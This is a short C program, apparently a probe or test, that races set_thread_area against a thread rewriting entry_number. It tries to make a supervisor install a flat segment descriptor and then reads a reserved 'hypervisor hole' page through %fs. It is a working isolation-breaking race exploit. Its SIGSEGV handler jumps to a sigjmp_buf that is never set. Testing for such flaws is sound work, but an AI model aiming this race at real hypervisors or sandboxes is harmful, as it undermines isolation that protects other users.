/* sta_entry_race: set_thread_area(entry 13, flat base 0) while another thread keeps rewriting the
 * struct's entry_number (13 <-> 14). A supervisor that reads the entry back from guest memory at the
 * syscall's exit truncates the wrong slot and leaves a flat descriptor in the real one; this program
 * then reads the hypervisor hole (a page it maps at 0xFC000000) through it. Prints HOLE REACHED if so. */
#define _GNU_SOURCE
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <asm/ldt.h>

static struct user_desc d;
static volatile int stop;
static void *flipper(void *a) {
    (void)a;
    volatile unsigned *e = &d.entry_number; while (!stop) { *e = 14; *e = 13; }
    return NULL;
}
static sigjmp_buf jb;
static void on_segv(int s) { (void)s; siglongjmp(jb, 1); }

int main(void) {
    unsigned *hole = mmap((void *)0xFC000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    if (hole == MAP_FAILED) { perror("mmap"); return 1; }
    hole[0] = 0xC0FFEE;
    signal(SIGSEGV, on_segv);
    pthread_t th;
    pthread_create(&th, NULL, flipper, NULL);
    for (int i = 0; i < 2000; i++) {
        memset(&d, 0, sizeof d);
        d.entry_number = 13; d.base_addr = 0; d.limit = 0xFFFFF; d.seg_32bit = 1; d.limit_in_pages = 1; d.useable = 1;
        if (syscall(SYS_set_thread_area, &d) < 0) continue;
        unsigned lim = 0, ok = 0;
        __asm__ volatile("mov $0x6b, %%ecx\n\tlsl %%ecx, %0\n\tsetz %b1" : "=r"(lim), "=q"(ok) : : "ecx");
        if (ok && lim == 0xFFFFFFFFu) {
            unsigned v;
            __asm__ volatile("mov $0x6b, %%eax\n\tmov %%eax, %%fs\n\tmov %%fs:0xFC000000, %%eax\n\tmov %%eax, %0"
                             : "=r"(v) : : "eax", "memory");
            printf("attempt %d: entry 13 limit %#x; read %#x through %%fs:0xFC000000: HOLE REACHED\n", i, lim, v);
            stop = 1;
            return 0;
        }
        signal(SIGSEGV, on_segv);
    }
    stop = 1;
    printf("no hole in 2000 attempts\n");
    return 0;
}
